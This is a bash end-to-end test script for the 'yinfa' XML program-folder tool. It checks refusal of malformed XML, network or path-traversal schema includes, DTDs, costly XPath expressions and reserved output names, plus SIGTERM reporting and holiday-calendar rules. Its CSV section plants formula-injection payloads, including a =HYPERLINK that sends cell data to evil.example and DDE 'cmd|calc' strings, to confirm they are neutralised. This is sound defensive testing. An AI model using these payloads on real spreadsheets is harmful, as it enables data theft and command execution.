#!/bin/bash
# Issue 22 (trust, third round): a program folder is data from someone else, every refusal says
# why, a signal says what happened. Inputs: tests/cases/{fails,weak}-*/ (the reproductions of
# ../shared/cases/trust3/, each script run in a scratch folder against this checkout).
source "$(dirname "$0")/../e2e_lib.sh"
CASES=$ROOT/tests/cases
T=$E2E_TMP
SAMPLE=$ROOT/samples/xuchang-2022.xml

# has NAME FILE TEXT: FILE contains TEXT (fixed string).
has() { if grep -qF -- "$3" "$2"; then pass "$1"; else fail "$1" "no '$3' in: $(head -c 600 "$2")"; fi; }
hasnt() { if grep -qF -- "$3" "$2"; then fail "$1" "'$3' in: $(head -c 600 "$2")"; else pass "$1"; fi; }
rc_is() { if [ "$2" -eq "$3" ]; then pass "$1"; else fail "$1" "exit $2, wanted $3"; fi; }

# ---- every refusal has at least one located error (FAILS-malformed-xml-refused-with-0-errors),
# and the same for the other members of the kind: garbage after the declaration, a cut file, a
# second declaration, a declaration alone, a PI named xml..., stray bytes after the root.
C=$CASES/fails-malformed-xml-refused-with-0-errors
mkdir -p "$T/bad"
cp "$C/in.xml" "$T/bad/case.xml"
printf '<?xml version="1.0"?>garbage' >"$T/bad/garbage.xml"
head -c 700 "$SAMPLE" >"$T/bad/cut.xml"
printf '<?xml version="1.0"?>\n<?xml version="1.0"?>\n<review-round/>\n' >"$T/bad/twice.xml"
printf '<?xml version="1.0"?>\n' >"$T/bad/decl-only.xml"
printf '<?xmlfoo x?><?xml version="1.0"?><r/>' >"$T/bad/pi-xml.xml"
printf '<?xml version="1.0"?><review-round program="xuchang-nit"/>\n<?xml ?>' >"$T/bad/trailing.xml"
printf '<?xml versio="1.0"?><review-round/>' >"$T/bad/bad-decl.xml"
n=0
for f in "$T"/bad/*.xml; do
  b=$(basename "$f")
  "$YINFA" validate "$f" >/dev/null 2>"$T/v.err"
  rc=$?
  n=$((n + 1))
  rc_is "refused $b: exit 1" "$rc" 1
  if grep -qE "^$f:[0-9]+(:[0-9]+)?: error: " "$T/v.err"; then pass "refused $b: a located error says why"
  else fail "refused $b: no located error" "$(cat "$T/v.err")"; fi
  hasnt "refused $b: never '0 error(s)'" "$T/v.err" "0 error(s)"
done
check "malformed inputs tried: 8" test "$n" -eq 8
"$YINFA" validate "$T/bad/case.xml" >/dev/null 2>"$T/case.err"
has "the case: the misplaced declaration is the error" "$T/case.err" "case.xml:1:27: error: not well-formed XML: XML declaration allowed only at the start"

# ---- output= naming yinfa's own files (FAILS-program-output-overwrites-manifest) --------------
mkdir -p "$T/out-names" && cd "$T/out-names" || exit 3
sh "$CASES/fails-program-output-overwrites-manifest/make-program.sh" "$ROOT" >/dev/null 2>&1
for reserved in manifest.csv MANIFEST-1-of-2.csv .yinfa.lock .manifest.journal .yinfa-2-of-3.lock \
                sub/.x.pdf.tmp-12; do
  rm -rf p && cp -r progs p
  sed -i "s#output=\"manifest.csv\"#output=\"$reserved\"#" p/xuchang-nit/program.xml
  (cd "$ROOT" && "$YINFA" run samples/xuchang-2022.ini --programs "$T/out-names/p" --output "$T/out-names/o") \
    >/dev/null 2>"$T/o.err"
  rc=$?
  rc_is "output=\"$reserved\": run exits 1" "$rc" 1
  if grep -qE "p/xuchang-nit/program.xml:[0-9]+:[0-9]+: error: output=\"$(printf %s "$reserved" | sed 's/[.]/[.]/g')\"" "$T/o.err"
  then pass "output=\"$reserved\": refused at program.xml's line"
  else fail "output=\"$reserved\": not refused at its line" "$(head -3 "$T/o.err")"; fi
  check "output=\"$reserved\": nothing written" test ! -e "$T/out-names/o"
done
# names that look like the manifest's or turn it into a folder (a fresh user's trial: "manifest.csv/"
# left a folder named manifest.csv and verify failed for good; "manifest.csv " sat beside it)
for reserved in "manifest.csv/" "manifest.csv " "Manifest.CSV/x.pdf" "a//b.pdf" " notice.pdf"; do
  rm -rf p o && cp -r progs p
  sed -i "s#output=\"manifest.csv\"#output=\"$reserved\"#" p/xuchang-nit/program.xml
  (cd "$ROOT" && "$YINFA" run samples/xuchang-2022.ini --programs "$T/out-names/p" --output "$T/out-names/o") \
    >/dev/null 2>"$T/o.err"
  rc=$?
  rc_is "output=\"$reserved\": run exits 1" "$rc" 1
  check "output=\"$reserved\": refused at program.xml's line" grep -qE 'p/xuchang-nit/program.xml:[0-9]+:[0-9]+: error: output=' "$T/o.err"
  check "output=\"$reserved\": nothing written" test ! -e "$T/out-names/o"
done
# a name that merely contains the word is a document like any other
rm -rf p && cp -r progs p
sed -i 's#output="manifest.csv"#output="manifesto.pdf"#' p/xuchang-nit/program.xml
(cd "$ROOT" && "$YINFA" validate samples/xuchang-2022.xml --programs "$T/out-names/p") >/dev/null 2>"$T/o.err"
rc_is "output=\"manifesto.pdf\" is accepted" $? 0
cd "$ROOT" || exit 3

# ---- no network, nothing from outside the program folder (WEAK-program-schema-import-fetches-network)
mkdir -p "$T/net" && cd "$T/net" || exit 3
sh "$CASES/weak-program-schema-import-fetches-network/make-program.sh" "$ROOT" >/dev/null 2>&1
strace_ok=0
if command -v strace >/dev/null; then
  strace -f -e trace=connect -o "$T/net/trace" "$YINFA" validate "$SAMPLE" --programs "$T/net/progs" >/dev/null 2>"$T/n.err"
  rc=$?
  strace_ok=1
  if grep -q 'connect(' "$T/net/trace"; then fail "schema: no network connection" "$(grep connect "$T/net/trace" | head -2)"
  else pass "schema: no network connection (strace)"; fi
else
  "$YINFA" validate "$SAMPLE" --programs "$T/net/progs" >/dev/null 2>"$T/n.err"
  rc=$?
fi
rc_is "schema with an http import and an outside include: exit 1" "$rc" 1
has "the http import is refused at its line" "$T/n.err" "progs/xuchang-nit/schema.xsd:10: error: schemaLocation=\"http://127.0.0.1:8765/x.xsd\" is a URL"
has "the include from outside is refused at its line" "$T/n.err" "progs/xuchang-nit/schema.xsd:9: error: schemaLocation=\"$T/net/outside.xsd\" is an absolute path"
hasnt "no raw libxml2 message" "$T/n.err" "I/O warning"
has "the summary says the program did not load, not that the round is wrong" "$T/n.err" "could not be checked: program \"xuchang-nit\" does not load"
echo "strace used: $strace_ok"
# the same for every file program.xml names, and a relative include that leads out
for what in 'schema="../../outside.xsd"' 'schema="/etc/hostname"' 'template="../../x.xml"' 'schema="http://127.0.0.1:8765/s.xsd"'; do
  mkdir -p p && cp -r "$ROOT/templates/xuchang-nit" "$ROOT/templates/common" p/
  attr=${what%%=*}
  if [ "$attr" = schema ]; then sed -i "s#schema=\"schema.xsd\"#$what#" p/xuchang-nit/program.xml
  else sed -i "0,/template=\"notice.xml\"/s##$what#" p/xuchang-nit/program.xml; fi
  "$YINFA" validate "$SAMPLE" --programs "$T/net/p" >/dev/null 2>"$T/f.err"
  rc=$?
  rc_is "$what: refused" "$rc" 1
  if grep -qE "p/xuchang-nit/program.xml:[0-9]+:[0-9]+: error: $attr=" "$T/f.err"; then pass "$what: at program.xml's line"
  else fail "$what: not located" "$(head -3 "$T/f.err")"; fi
done
rm -rf p && mkdir -p p && cp -r "$ROOT/templates/xuchang-nit" "$ROOT/templates/common" p/
sed -i '0,/elementFormDefault="unqualified">/s##elementFormDefault="unqualified">\n<xs:include schemaLocation="../../outside.xsd"/>#' p/xuchang-nit/schema.xsd
"$YINFA" validate "$SAMPLE" --programs "$T/net/p" >/dev/null 2>"$T/f.err"
has "xs:include of ../../ is refused at its line" "$T/f.err" "p/xuchang-nit/schema.xsd:9: error: schemaLocation=\"../../outside.xsd\" is outside the program folder"
cd "$ROOT" || exit 3

# import.xml and program.xml are named by the folder: a link out of it is refused the same way
L=$T/link-import
mkdir -p "$L" && cp -r "$ROOT/templates/xuchang-nit" "$ROOT/templates/common" "$L/"
mv "$L/xuchang-nit/import.xml" "$T/outside-import.xml" && ln -s "$T/outside-import.xml" "$L/xuchang-nit/import.xml"
"$YINFA" validate "$SAMPLE" --programs "$L" >/dev/null 2>"$T/f.err"
rc_is "import.xml linked from outside: refused" $? 1
has "import.xml linked from outside: named" "$T/f.err" "link-import/xuchang-nit/import.xml: error: import.xml is outside the program folder"

# ---- a DTD in schema.xsd: one located message ----------------------------------------------
rm -rf "$T/dtd" && mkdir -p "$T/dtd" && cp -r templates/xuchang-nit templates/common "$T/dtd/"
sed -i '1a <!DOCTYPE xs:schema [ <!ENTITY x "y"> ]>' "$T/dtd/xuchang-nit/schema.xsd"
"$YINFA" validate "$SAMPLE" --programs "$T/dtd" >/dev/null 2>"$T/d.err"
rc_is "DTD in schema.xsd: exit 1" $? 1
has "DTD in schema.xsd: located" "$T/d.err" "dtd/xuchang-nit/schema.xsd:2: error: a DOCTYPE is not allowed in a program's schema"
check "DTD in schema.xsd: one error, no follow-ups" test "$(grep -c ': error: ' "$T/d.err")" -eq 1

# ---- a costly rule is stopped with its line (WEAK-program-rule-xpath-unbounded-time) ----------
mkdir -p "$T/slow" && cd "$T/slow" || exit 3
sh "$CASES/weak-program-rule-xpath-unbounded-time/make-program.sh" "$ROOT" >/dev/null 2>&1
start=$(date +%s)
timeout 60 "$YINFA" validate "$SAMPLE" --programs "$T/slow/progs" >/dev/null 2>"$T/s.err"
rc=$?
took=$(($(date +%s) - start))
rc_is "costly rule: exit 1 (not killed by the timeout)" "$rc" 1
slow_line=$(grep -n 'name="slow"' "$T/slow/progs/xuchang-nit/program.xml" | head -1 | cut -d: -f1)
check "costly rule: the case's rule is in its program.xml" test -n "$slow_line"
has "costly rule: the rule's name and program.xml line" "$T/s.err" "progs/xuchang-nit/program.xml:$slow_line:5: error: rule \"slow\": the expression"
has "costly rule: says it was stopped" "$T/s.err" "million steps"
check "costly rule: stopped within 20 s (took ${took}s)" test "$took" -le 20
cd "$ROOT" || exit 3

# the same bound for scoring.xml's expressions (Henan): the indicator and its line are named
S=$T/slowscore
mkdir -p "$S" && cp -r "$ROOT/templates/henan-toutou" "$ROOT/templates/common" "$S/"
sed -i 's#value="number(figures/@profit-tax) div number(figures/@revenue) \* 100"#value="number(figures/@profit-tax) div number(figures/@revenue) * 100 + 0 * count(//*[count(//*[count(//@*) \&gt;= 0]) \&gt;= 0])"#' "$S/henan-toutou/scoring.xml"
check "the costly scoring expression is in place" grep -q 'count(//\*\[count' "$S/henan-toutou/scoring.xml"
timeout 60 "$YINFA" validate "$ROOT/samples/henan-2024.xml" --programs "$S" >/dev/null 2>"$T/ss.err"
rc_is "costly scoring expression: exit 1" $? 1
has "costly scoring expression: the indicator, stopped, at scoring.xml's line" "$T/ss.err" "indicator 1 营业收入利税率: its expression was stopped after 100 million steps"
has "costly scoring expression: scoring.xml's line" "$T/ss.err" "(scoring.xml line 22)"
check "costly scoring expression: said once, not for every enterprise" test "$(grep -c 'million steps' "$T/ss.err")" -eq 1

# ---- program name vs folder name (WEAK-program-name-vs-folder-ambiguous) ---------------------
mkdir -p "$T/names" && cd "$T/names" || exit 3
sh "$CASES/weak-program-name-vs-folder-ambiguous/make-programs.sh" "$ROOT" >/dev/null 2>&1
"$YINFA" programs --programs "$T/names/d" >"$T/l.out" 2>"$T/l.err"
rc_is "programs: exit 1 (two folders disagree with their names)" $? 1
has "programs: d/copy named with both" "$T/l.err" "d/copy/program.xml:4:1: error: the program is named \"xuchang-nit\" but its folder is \"copy\""
has "programs: d/xuchang-nit named with both" "$T/l.err" "d/xuchang-nit/program.xml:5:1: error: the program is named \"fujian-fusion\" but its folder is \"xuchang-nit\""
check "programs: fujian-fusion listed once" test "$(grep -c '^fujian-fusion' "$T/l.out")" -eq 1
hasnt "programs: no COPY program listed as xuchang-nit" "$T/l.out" "COPY"
"$YINFA" programs xuchang-nit --programs "$T/names/d" >"$T/p.out" 2>"$T/p.err"
rc_is "programs xuchang-nit: exit 1" $? 1
has "programs xuchang-nit: the same error" "$T/p.err" "but its folder is \"xuchang-nit\""
"$YINFA" validate "$SAMPLE" --programs "$T/names/d" >/dev/null 2>"$T/v.err"
has "validate: the same error, not one that blames the round" "$T/v.err" "but its folder is \"xuchang-nit\""
hasnt "validate: not 'the file is for program'" "$T/v.err" "the file is for program"
# a program folder that is a symbolic link (the related report): its includes resolve from the link
rm -rf l && mkdir -p l && cp -r "$ROOT/templates/common" l/ && ln -s "$ROOT/templates/hunan-cloud" l/hunan-cloud
"$YINFA" validate "$ROOT/samples/hunan-2019.xml" --programs "$T/names/l" >/dev/null 2>"$T/ln.err"
rc_is "a symlinked program folder loads" $? 0
cd "$ROOT" || exit 3

# ---- SIGTERM: the summary says what happened (WEAK-run-sigterm-says-correct-the-errors) -------
# A round big enough that the signal lands while documents are being made.
"$ROOT/${YINFA_BUILD:-build}/tools/gen_round" --applicants 400 --seed 3 --output "$T/big.xml" >/dev/null 2>&1
sed -e "s|^\\(input *= *\\).*|\\1$T/big.xml|" -e "s|^\\(output *= *\\).*|\\1$T/sig|" samples/xuchang-2022.ini >"$T/sig.ini"
sed -i -E "s#^(title|body|heading|kai|song)( *= *)([^/;].*)\$#\\1\\2$ROOT/samples/\\3#" "$T/sig.ini"
got=0
for wait_s in 1.5 2.5 4; do
  rm -rf "$T/sig"
  "$YINFA" run "$T/sig.ini" --jobs 2 >/dev/null 2>"$T/sig.err" &
  pid=$!
  # wait until documents are being written, then stop the run
  for _ in $(seq 1 100); do [ -d "$T/sig/applicants" ] && break; sleep 0.1; done
  sleep 0.3
  kill -TERM "$pid" 2>/dev/null
  wait "$pid"
  rc=$?
  if [ "$rc" -eq 143 ] && grep -q 'stopped by SIGTERM' "$T/sig.err"; then got=1; break; fi
  : "$wait_s"
done
check "SIGTERM: exit 143 with a summary" test "$got" -eq 1
has "SIGTERM: says it was stopped by the signal" "$T/sig.err" "yinfa: stopped by SIGTERM:"
has "SIGTERM: says to run again" "$T/sig.err" "run the same command again to finish"
hasnt "SIGTERM: no 'correct the errors'" "$T/sig.err" "correct the errors"
hasnt "SIGTERM: no '0 error(s)'" "$T/sig.err" "0 error(s)"
has "SIGTERM: the count line says 'not made', not 'failed'" "$T/sig.err" "not made (stopped)"
"$YINFA" run "$T/sig.ini" --jobs 2 >/dev/null 2>"$T/sig2.err"
rc_is "SIGTERM: the re-run finishes" $? 0
"$YINFA" verify "$T/sig" >/dev/null 2>&1
rc_is "SIGTERM: the folder verifies after the re-run" $? 0

# ---- scores.csv: formula-looking names neutralised, numbers kept (FAILS-scores-csv-formula-injection)
mkdir -p "$T/csv" && cd "$T/csv" || exit 3
sh "$CASES/fails-scores-csv-formula-injection/make-round.sh" "$ROOT" >/dev/null 2>&1
# and the other members of the kind: + - TAB and the full-width ＝ in a name
sed -i 's#<name>漯河宛重工机械股份有限公司</name>#<name>+cmd|calc</name>#; s#<name>商丘宛食品有限公司</name>#<name>＝1+1</name>#' r.xml
"$YINFA" run job.ini --only scores-csv,scores-xlsx >/dev/null 2>"$T/csv.err"
rc_is "scores.csv: run exits 0" $? 0
has "scores.csv: =HYPERLINK is text" out/scores.csv "HN-001,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"详情\"\")\","
has "scores.csv: @SUM is text" out/scores.csv "HN-002,\"'@SUM(1+1)*cmd|' /C calc'!A0\","
has "scores.csv: +cmd is text" out/scores.csv "\"'+cmd|calc\""
has "scores.csv: full-width ＝ is text" out/scores.csv "\"'＝1+1\""
if LC_ALL=C grep -aqE '(^|,)[=@+]' out/scores.csv; then fail "scores.csv: no field starts with = @ +" "$(LC_ALL=C grep -aE '(^|,)[=@+]' out/scores.csv | head -2)"
else pass "scores.csv: no field starts with = @ +"; fi
check "scores.csv: every enterprise has a row" test "$(grep -c '^HN-' out/scores.csv)" -eq 96
"$YINFA" verify out >/dev/null 2>&1
rc_is "the manifest (exact, not neutralised) verifies" $? 0
cd "$ROOT" || exit 3

# ---- a 公示 that runs into a year the notices do not list (FAILS-publicity-ends-on-new-year-2027)
mkdir -p "$T/cal" && cd "$T/cal" || exit 3
sh "$CASES/fails-publicity-ends-on-new-year-2027/make-job.sh" "$ROOT" >/dev/null 2>&1
sed -i -E "s#^(title|body|heading|kai|song)( *= *)([^/;].*)\$#\\1\\2$ROOT/samples/\\3#" job.ini
"$YINFA" run job.ini --only notice >/dev/null 2>"$T/c.err"
rc_is "2026-12-28 + 5 working days into 2027: exit 1" $? 1
has "the error names the year and what to add" "$T/c.err" "runs into 2027, whose arrangement (worked weekends, days off in lieu) the calendar does not list yet"
has "the error names the INI key and the option" "$T/c.err" "allow_unknown_calendar = yes or --allow-unknown-calendar"
# (the line of the template's workdays-after and the column of its expression after the { that
# opens it, read from the template itself, wherever the wording puts it)
tl=$(grep -n 'workdays-after' "$ROOT/templates/xuchang-nit/notice.xml" | head -1 | cut -d: -f1)
tc=$(sed -n "${tl}p" "$ROOT/templates/xuchang-nit/notice.xml" | python3 -c 'import sys; l = sys.stdin.read(); print(l.rindex("{", 0, l.index("workdays-after")) + 2)')
has "the error is at the template's line and column ($tl:$tc)" "$T/c.err" "notice.xml:$tl:$tc: error: "
check "no notice was written" test ! -e out/notice.pdf
"$YINFA" run job.ini --only notice --allow-unknown-calendar >/dev/null 2>"$T/c2.err"
rc_is "--allow-unknown-calendar: exit 0" $? 0
has "--allow-unknown-calendar: a warning says how it was counted" "$T/c2.err" "counted with 2027's statutory days off alone"
if pdftotext out/notice.pdf - 2>/dev/null | tr -d ' \n' | grep -q '公示期为2026年12月28日至2027年1月4日（5个工作日）'; then
  pass "the 公示 ends on Monday 2027-01-04, not on 元旦"
else fail "the 公示 ends on Monday 2027-01-04" "$(pdftotext out/notice.pdf - 2>/dev/null | grep 公示期)"; fi
rm -rf out
sed -i 's#^\[round\]#[round]\nallow_unknown_calendar = yes#' job.ini
"$YINFA" run job.ini --only notice >/dev/null 2>"$T/c3.err"
rc_is "[round] allow_unknown_calendar = yes: exit 0" $? 0
sed -i '/^allow_unknown_calendar/d' job.ini
rm -rf out
# the office writes 2027's arrangement into the INI: no error, no flag
sed -i 's#^holidays *=.*#holidays = 2027-01-01#' job.ini
"$YINFA" run job.ini --only notice >/dev/null 2>"$T/c4.err"
rc_is "2027's days in the INI: exit 0 without the flag" $? 0
hasnt "2027's days in the INI: no calendar warning" "$T/c4.err" "runs into 2027"
# across 春节 2027 (除夕 Friday 02-05 to 初三 Monday 02-08, statutory from 2025)
rm -rf out
sed -i 's#^holidays *=.*#holidays =#; s#^publicity_start *=.*#publicity_start = 2027-02-05#; s#^date *=.*#date = 2027-02-03#; s#〔2026〕#〔2027〕#' job.ini
sed -i 's/2026-12-24/2027-02-01/g' r26.xml
"$YINFA" run job.ini --only notice --allow-unknown-calendar >/dev/null 2>"$T/c5.err"
rc_is "a 公示 starting on 除夕 2027: refused" $? 1
has "a 公示 starting on 除夕 2027: the rule knows 除夕 is a day off" "$T/c5.err" "the publicity period starts on 2027-02-05, which is not a working day"
sed -i 's#^publicity_start *=.*#publicity_start = 2027-02-04#' job.ini
"$YINFA" run job.ini --only notice --allow-unknown-calendar >/dev/null 2>"$T/c5.err"
rc_is "a 公示 from 2027-02-04: exit 0 when accepted" $? 0
if pdftotext out/notice.pdf - 2>/dev/null | tr -d ' \n' | grep -q '2027年2月4日至2027年2月12日（5个工作日）'; then
  pass "a 公示 from 2027-02-04 skips 春节 (除夕 to 初三): ends 2027-02-12"
else fail "a 公示 from 2027-02-04 ends 2027-02-12" "$(pdftotext out/notice.pdf - 2>/dev/null | grep 公示期) $(head -3 "$T/c5.err")"; fi
# yinfa calendar YEAR: each day off and worked weekend with its source
"$YINFA" calendar 2027 >"$T/y.out" 2>&1
rc_is "yinfa calendar 2027: exit 0" $? 0
has "calendar 2027: 元旦 statutory" "$T/y.out" "2027-01-01 Fri  off  元旦"
has "calendar 2027: 除夕 is 2027-02-05 (正月初一 02-06, not ICU's 02-07)" "$T/y.out" "2027-02-05 Fri  off  春节"
has "calendar 2027: says the notice is missing" "$T/y.out" "does not list this year yet"
check "calendar 2027: 13 statutory days" test "$(grep -c 'statutory: ' "$T/y.out")" -eq 13
"$YINFA" calendar 2024 >"$T/y24.out" 2>&1
has "calendar 2024: 调休 working Sunday from the notice" "$T/y24.out" "2024-02-04 Sun  work 春节   data/cn-holidays.tsv"
check "calendar 2024: 11 statutory days among the notice's" test "$(grep -c 'a statutory day' "$T/y24.out")" -eq 11
"$YINFA" calendar 2027 job.ini >"$T/y.out" 2>&1
rc_is "yinfa calendar 2027 job.ini: exit 0" $? 0
"$YINFA" calendar 1999 >/dev/null 2>&1
rc_is "yinfa calendar 1999: usage error" $? 2
cd "$ROOT" || exit 3

# data/cn-festivals.tsv is what tools/gen_cn_festivals.py makes from python3-lunardate (a test
# package: make deps installs it), byte for byte
if /usr/bin/python3 "$ROOT/tools/gen_cn_festivals.py" 2>/dev/null | cmp -s - "$ROOT/data/cn-festivals.tsv"; then
  pass "data/cn-festivals.tsv regenerates byte for byte"
else fail "data/cn-festivals.tsv does not regenerate (python3-lunardate installed?)"; fi
cd "$ROOT" || exit 3

finish
